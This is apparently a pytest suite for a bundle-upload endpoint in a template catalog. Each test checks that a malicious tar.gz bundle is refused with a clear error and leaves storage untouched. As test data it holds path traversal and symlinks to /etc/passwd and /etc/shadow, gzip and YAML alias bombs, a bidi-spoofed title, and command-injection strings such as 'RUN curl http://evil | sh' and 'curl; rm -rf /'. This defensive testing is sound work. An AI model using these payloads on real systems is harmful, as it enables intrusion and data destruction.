"""One test per way a stranger's bundle can attack the hub. Each must answer 4xx with a
body naming the problem, and leave the database and the artifact storage unchanged."""

import gzip
import io
import subprocess
import tarfile
import tempfile

import pytest
import yaml

from templates_catalog import bundles
from templates_catalog.models import TemplateVersion

from ..factories import manifest_data
from .conftest import catalog_state, manifest_member, regular, tar_gz


def _link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info, None


def _device(name: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.devmajor, info.devminor = 1, 3
    return info, None


class _Zeros:
    def __init__(self, size: int):
        self.remaining = size

    def read(self, count: int = -1) -> bytes:
        count = self.remaining if count < 0 else min(count, self.remaining)
        self.remaining -= count
        return bytes(count)


def _gzip_bomb() -> bytes:
    # 200 MiB of zeros in one member compresses to about 200 KiB: far past a ratio of 50.
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        info, data = manifest_member()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        zeros = tarfile.TarInfo("zeros.bin")
        zeros.size = 200 * 1024 * 1024
        tar.addfile(zeros, _Zeros(zeros.size))
    return raw.getvalue()


def _folder(name: str) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    return info, None


def _plain_tar() -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info, data = manifest_member()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def _alias_bomb() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [" + ",".join([f"*{previous}"] * 9) + "]")
    return tar_gz([regular("hub.yaml", "\n".join(lines).encode())])


ATTACKS = {
    "path traversal": (lambda: tar_gz([manifest_member(), regular("../../etc/cron.d/evil", b"* * * * * root id")]), 400, "points outside the bundle"),
    "absolute path": (lambda: tar_gz([manifest_member(), regular("/etc/passwd", b"root::0:0")]), 400, "is an absolute path"),
    "symlink": (lambda: tar_gz([manifest_member(), _link("secrets", "/etc/shadow", tarfile.SYMTYPE)]), 400, "is a link"),
    "hard link": (lambda: tar_gz([manifest_member(), _link("passwd", "/etc/passwd", tarfile.LNKTYPE)]), 400, "is a link"),
    "character device": (lambda: tar_gz([manifest_member(), _device("null", tarfile.CHRTYPE)]), 400, "device, pipe or other special file"),
    "fifo": (lambda: tar_gz([manifest_member(), _device("pipe", tarfile.FIFOTYPE)]), 400, "device, pipe or other special file"),
    "gzip bomb": (_gzip_bomb, 400, "expands more than 50 times"),
    "too many members": (lambda: tar_gz([manifest_member()] + [regular(f"f{i}.txt", b"x") for i in range(60)]), 400, "more than 50 entries"),
    "truncated gzip": (lambda: tar_gz([manifest_member(), regular("code.py", b"print(1)\n" * 500)])[:-40], 400, "not a complete gzip file"),
    "not a tar": (lambda: gzip.compress(b"just some text, not an archive" * 100, mtime=0), 400, "not a readable .tar.gz"),
    "not gzip at all": (lambda: b"\x00\x01 random bytes" * 10, 400, "not a complete gzip file"),
    "a zip archive": (lambda: b"PK\x03\x04 this is a zip file" * 10, 400, "this is a ZIP archive, not a .tar.gz; pack the folder as .tar.gz: `tar czf bundle.tar.gz -C FOLDER .`"),
    "an uncompressed tar": (_plain_tar, 400, "this is an uncompressed tar archive, not a .tar.gz"),
    # Archives that pass a naive check and fail only when unpacked (a 500 before).
    "a folder then a file of the same name": (
        lambda: tar_gz([manifest_member(), _folder("models"), regular("models", b"x")]), 400,
        "'models' is a file, but a folder of the same name is earlier in the bundle",
    ),
    "a file then a folder of the same name": (
        lambda: tar_gz([manifest_member(), regular("models", b"x"), _folder("models")]), 400,
        "'models' is a folder, but a file of the same name is earlier in the bundle",
    ),
    "a file then a path beneath it": (
        lambda: tar_gz([manifest_member(), regular("models", b"x"), regular("models/weights.bin", b"y")]), 400,
        "'models/weights.bin' is inside 'models', which is a file earlier in the bundle",
    ),
    "a path then a file named like its folder": (
        lambda: tar_gz([manifest_member(), regular("models/weights.bin", b"y"), regular("models", b"x")]), 400,
        "'models' is a file, but a folder of the same name",
    ),
    "an empty member name": (lambda: tar_gz([manifest_member(), regular("", b"x")]), 400, "a file in the bundle has an empty name ('')"),
    "a file named only ./": (lambda: tar_gz([manifest_member(), regular("./", b"x")]), 400, "has an empty name ('./')"),
    "a name longer than the filesystem allows": (
        lambda: tar_gz([manifest_member(), regular("n" * 300 + ".py", b"x")]), 400, "'" + "n" * 80 + "'… has a name of more than 255 bytes",
    ),
    "a path longer than 1024 bytes": (
        lambda: tar_gz([manifest_member(), regular("/".join(["p" * 200] * 6), b"x")]), 400, "is a path of 1205 bytes; the limit is 1024",
    ),
    "very deep nesting": (
        lambda: tar_gz([manifest_member(), regular("d/" * 40 + "f.py", b"x")]), 400, "'d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/'… is 41 folders deep; the limit is 32",
    ),
    "a file whose name ends with a slash": (lambda: tar_gz([manifest_member(), regular("code.py/", b"x")]), 400, "'code.py/' is a file whose name ends with `/`"),
    "an apt pattern in a system package": (
        lambda: tar_gz([manifest_member(runtime={"system_packages": ["zlib1g-de.+"]})]), 400, "runtime.system_packages.0: 'zlib1g-de.+' is not valid",
    ),
    "an apt version selector in a system package": (
        lambda: tar_gz([manifest_member(runtime={"system_packages": ["libc6=2.36-9"]})]), 400, "runtime.system_packages.0",
    ),
    "a 5,000-character package pin": (
        lambda: tar_gz([manifest_member(runtime={"packages": ["numpy==1." + "0" * 5000]})]), 400, "runtime.packages.0: string should have at most 200 characters",
    ),
    "a bidi override in the title": (lambda: tar_gz([manifest_member(title="Safe \u202egnp.exe")]), 400, "hub.yaml title"),
    "a line separator in the summary": (lambda: tar_gz([manifest_member(summary="One line\u2028FROM evil")]), 400, "hub.yaml summary"),
    "no hub.yaml": (lambda: tar_gz([regular("README.md", b"# hi")]), 400, "no hub.yaml at its root"),
    "hub.yaml not at the root": (lambda: tar_gz([regular("demo/hub.yaml", manifest_member()[1])]), 400, "found 'demo/hub.yaml': pack from inside that folder"),
    "yaml alias bomb": (_alias_bomb, 400, "YAML aliases"),
    "dockerfile injection in a package pin": (
        lambda: tar_gz([manifest_member(runtime={"packages": ["numpy==2.0\nRUN curl http://evil | sh"]})]),
        400,
        "runtime.packages.0",
    ),
    "shell injection in a system package": (
        lambda: tar_gz([manifest_member(runtime={"system_packages": ["curl; rm -rf /"]})]),
        400,
        "runtime.system_packages.0",
    ),
    "shell injection in a job command": (
        lambda: tar_gz([manifest_member(kind="job", serve=None, job={"command": ["sh", "-c", "id > /tmp/owned"]})]),
        400,
        "job.command.2",
    ),
    "newline in a handler": (lambda: tar_gz([manifest_member(serve={"handler": "app:M\nUSER root"})]), 400, "serve.handler"),
}


@pytest.fixture
def temp_area(tmp_path, monkeypatch):
    """The temporary folder uploads are spooled and unpacked in, watched by the test."""
    area = tmp_path / "tmp"
    area.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(area))
    return area


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_it_refuses_the_attack_and_keeps_nothing(attack, upload, owner_token, publish, artifact_root, settings, temp_area):
    settings.BUNDLE_MAX_MEMBERS = 50
    publish(name="already-here")  # so "unchanged" is checked against a non-empty catalog
    before = catalog_state(artifact_root)
    make, expected_status, phrase = ATTACKS[attack]

    response = upload("demo-embedder", make(), owner_token)

    assert response.status_code == expected_status, response.content
    assert phrase in response.json()["detail"], response.json()
    assert response.json()["errors"], "every refusal lists its errors"
    assert catalog_state(artifact_root) == before
    assert list(temp_area.iterdir()) == []


def test_an_extraction_error_the_checks_missed_is_still_a_400_naming_the_member(
    upload, owner_token, artifact_root, temp_area, monkeypatch
):
    # The safety net under the checks: with the tree check switched off, the conflict
    # reaches the disk, and the answer must still be a 400 that names the member.
    monkeypatch.setattr(bundles, "_check_tree", lambda *args: None)
    before = catalog_state(artifact_root)

    response = upload("demo-embedder", tar_gz([manifest_member(), _folder("models"), regular("models", b"x")]), owner_token)

    assert response.status_code == 400, response.content
    assert "'models' cannot be unpacked (Is a directory); rename or remove it" in response.json()["detail"]
    assert catalog_state(artifact_root) == before
    assert list(temp_area.iterdir()) == []


def test_a_bundle_packed_with_tar_from_inside_the_folder_is_accepted(upload, owner_token, tmp_path):
    # `tar czf -C FOLDER .` writes a `./` entry and `./`-prefixed names: the tree checks must allow them.
    folder = tmp_path / "demo"
    (folder / "app" / "models").mkdir(parents=True)
    (folder / "hub.yaml").write_text(yaml.safe_dump(manifest_data(runtime={"system_packages": ["libstdc++6", "python3.11", "g++"]})))
    (folder / "app" / "models" / "weights.bin").write_bytes(b"\x00" * 10)
    (folder / "app" / "handler.py").write_text("class Model:\n    pass\n")
    archive = tmp_path / "bundle.tar.gz"
    subprocess.run(["tar", "czf", str(archive), "-C", str(folder), "."], check=True)

    response = upload("demo-embedder", archive.read_bytes(), owner_token)

    assert response.status_code == 201, response.content
    assert TemplateVersion.objects.get().manifest["runtime"]["system_packages"] == ["libstdc++6", "python3.11", "g++"]


def test_it_refuses_a_bundle_over_the_size_cap_from_its_declared_length(upload, owner_token, artifact_root, settings):
    settings.BUNDLE_MAX_BYTES = 10_000
    before = catalog_state(artifact_root)

    response = upload("demo-embedder", b"\x1f\x8b" + b"x" * 20_000, owner_token)

    assert response.status_code == 413
    assert response.json()["errors"] == [
        {"field": "", "message": "the bundle is 20002 bytes; the limit is 10000: make it smaller"}
    ]
    assert "the limit is 10000" in response.json()["detail"]
    assert catalog_state(artifact_root) == before


def test_it_stops_reading_once_a_stream_passes_the_cap(owner_token, publisher, artifact_root, settings):
    # A client that lies about Content-Length is caught while streaming.
    from templates_catalog.services import PublishTooLarge, template_version_publish

    settings.BUNDLE_MAX_BYTES = 10_000
    with pytest.raises(PublishTooLarge, match="larger than the limit"):
        template_version_publish(publisher=publisher, bundle=io.BytesIO(b"x" * 20_000))
    assert catalog_state(artifact_root)[1] == []


def test_it_refuses_a_bundle_whose_unpacked_size_is_over_the_cap(upload, owner_token, artifact_root, settings):
    settings.BUNDLE_MAX_UNPACKED_BYTES = 50_000
    raw = tar_gz([manifest_member(), regular("data.bin", bytes(range(256)) * 400)])

    response = upload("demo-embedder", raw, owner_token)

    assert response.status_code == 400
    assert "unpacks to more than" in response.json()["detail"]
